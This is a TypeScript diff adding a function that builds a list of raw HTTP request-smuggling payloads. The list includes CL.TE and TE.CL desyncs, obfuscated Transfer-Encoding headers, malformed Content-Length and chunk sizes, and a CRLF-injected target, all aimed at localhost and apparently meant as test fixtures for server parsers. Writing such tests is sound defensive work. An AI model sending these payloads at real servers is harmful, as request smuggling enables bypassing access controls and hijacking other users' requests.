@@ -1,0 +1,40 @@
+/** A request for `path` with another one in it. Each would be read in two ways by some pair of servers. */
+export function smugglingShapes(path: string, smuggled: string): Readonly<Record<string, string>> {
+  const head = `POST ${path} HTTP/1.1\r\nHost: localhost\r\n`
+  const chunked = `0\r\n\r\n${smuggled}`
+  return {
+    'CL.TE': `${head}Content-Length: ${chunked.length}\r\nTransfer-Encoding: chunked\r\n\r\n${chunked}`,
+    'TE.CL': `${head}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n${chunked}`,
+    'TE with a tab': `${head}Transfer-Encoding:\tchunked\r\nContent-Length: 5\r\n\r\n${chunked}`,
+    'TE with a vertical tab': `${head}Transfer-Encoding:\x0bchunked\r\nContent-Length: ${chunked.length}\r\n\r\n${chunked}`,
+    'TE with a space before the colon': `${head}Transfer-Encoding : chunked\r\nContent-Length: ${chunked.length}\r\n\r\n${chunked}`,
+    'TE on a folded line': `${head}Transfer-Encoding:\r\n chunked\r\nContent-Length: ${chunked.length}\r\n\r\n${chunked}`,
+    'TE behind a bare line feed': `${head}X: y\nTransfer-Encoding: chunked\r\nContent-Length: ${chunked.length}\r\n\r\n${chunked}`,
+    'TE behind a bare carriage return': `${head}X: y\rTransfer-Encoding: chunked\r\nContent-Length: ${chunked.length}\r\n\r\n${chunked}`,
+    'TE twice': `${head}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nContent-Length: ${chunked.length}\r\n\r\n${chunked}`,
+    'TE xchunked': `${head}Transfer-Encoding: xchunked\r\nContent-Length: ${chunked.length}\r\n\r\n${chunked}`,
+    'TE chunked, chunked': `${head}Transfer-Encoding: chunked, chunked\r\nContent-Length: ${chunked.length}\r\n\r\n${chunked}`,
+    'TE in quotes': `${head}Transfer-Encoding: "chunked"\r\nContent-Length: ${chunked.length}\r\n\r\n${chunked}`,
+    'TE with an underscore': `${head}Transfer_Encoding: chunked\r\nContent-Length: ${chunked.length}\r\n\r\n${chunked}`,
+    'TE named by Connection': `${head}Connection: transfer-encoding\r\nTransfer-Encoding: chunked\r\nContent-Length: ${chunked.length}\r\n\r\n${chunked}`,
+    'CL with a sign': `${head}Content-Length: +0\r\n\r\n${smuggled}`,
+    'CL as a list': `${head}Content-Length: ${smuggled.length}, 0\r\n\r\n${smuggled}`,
+    'CL twice': `${head}Content-Length: 0\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
+    'CL in hex': `${head}Content-Length: 0x${smuggled.length.toString(16)}\r\n\r\n${smuggled}`,
+    'CL named by Connection': `${head}Connection: content-length\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
+    'CL beyond 2^64': `${head}Content-Length: 18446744073709551616\r\n\r\n${smuggled}`,
+    'a chunk size beyond 2^64': `${head}Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n${smuggled}`,
+    'a chunk size with a sign': `${head}Transfer-Encoding: chunked\r\n\r\n-1\r\n${smuggled}`,
+    'a chunk size with 0x': `${head}Transfer-Encoding: chunked\r\n\r\n0x${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`,
+    'a chunk extension with a bare line feed': `${head}Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\n${smuggled.length.toString(16)}\r\n0\r\n\r\n${smuggled}`,
+    'a chunk that is longer than its size': `${head}Transfer-Encoding: chunked\r\n\r\n1\r\n${smuggled}`,
+    'a trailer that frames': `${head}Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nContent-Length: ${smuggled.length}\r\nTransfer-Encoding: chunked\r\n\r\n`,
+    'a body in a GET': `GET ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
+    'HTTP/0.9 behind a request': `${head}Content-Length: 0\r\n\r\nGET /smuggled\r\n`,
+    'a line of its own before the request': `\r\n\r\n${head}Content-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
+    'a target with a line feed in it': `GET ${path}%0d%0aX:%20y HTTP/1.1\r\nHost: localhost\r\n\r\n`,
+    'a target with spaces': `GET ${path} HTTP/1.1 /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n`,
+    'Expect, and the body at once': `${head}Expect: 100-continue\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
+    'an upgrade with a body': `${head}Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
+  }
+}
